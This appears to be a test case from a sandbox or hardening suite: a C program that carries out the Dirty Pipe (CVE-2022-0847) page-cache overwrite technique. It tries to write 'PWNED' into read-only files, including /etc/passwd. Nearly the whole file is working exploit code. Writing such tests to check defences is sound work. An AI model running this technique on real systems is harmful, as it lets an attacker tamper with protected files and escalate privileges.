/* abuse: F12 Dirty-Pipe-style splice of a read-only file into a pipe, then write (CVE-2022-0847) */
/* expect: exit=0 stdout~done */
#define _GNU_SOURCE 1
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void
attempt (const char *path)
{
  int p[2], fd;
  char buf[4096];
  __off64_t off = 1;
  unsigned pipe_size;
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || pipe (p) < 0)
    {
      printf ("%s: cannot open\n", path);
      return;
    }
  /* fill and drain the pipe so every buffer has PIPE_BUF_FLAG_CAN_MERGE set */
  pipe_size = (unsigned) fcntl (p[1], F_GETPIPE_SZ);
  memset (buf, 0, sizeof buf);
  for (unsigned r = pipe_size; r > 0;)
    {
      unsigned n = r > sizeof buf ? sizeof buf : r;
      if (write (p[1], buf, n) < 0)
        break;
      r -= n;
    }
  for (unsigned r = pipe_size; r > 0;)
    {
      unsigned n = r > sizeof buf ? sizeof buf : r;
      if (read (p[0], buf, n) < 0)
        break;
      r -= n;
    }
  if (splice (fd, &off, p[1], 0, 1, 0) != 1)
    {
      printf ("%s: splice refused\n", path);
      return;
    }
  printf ("%s: write after splice %s\n", path, write (p[1], "PWNED", 5) == 5 ? "accepted" : "refused");
  close (fd);
  close (p[0]);
  close (p[1]);
}

int
main (void)
{
  attempt ("@CANARY_DIR@/public.txt");
  attempt ("@TEMPLATE_FILE@");
  attempt ("/etc/passwd");
  puts ("done");
  return 0;
}
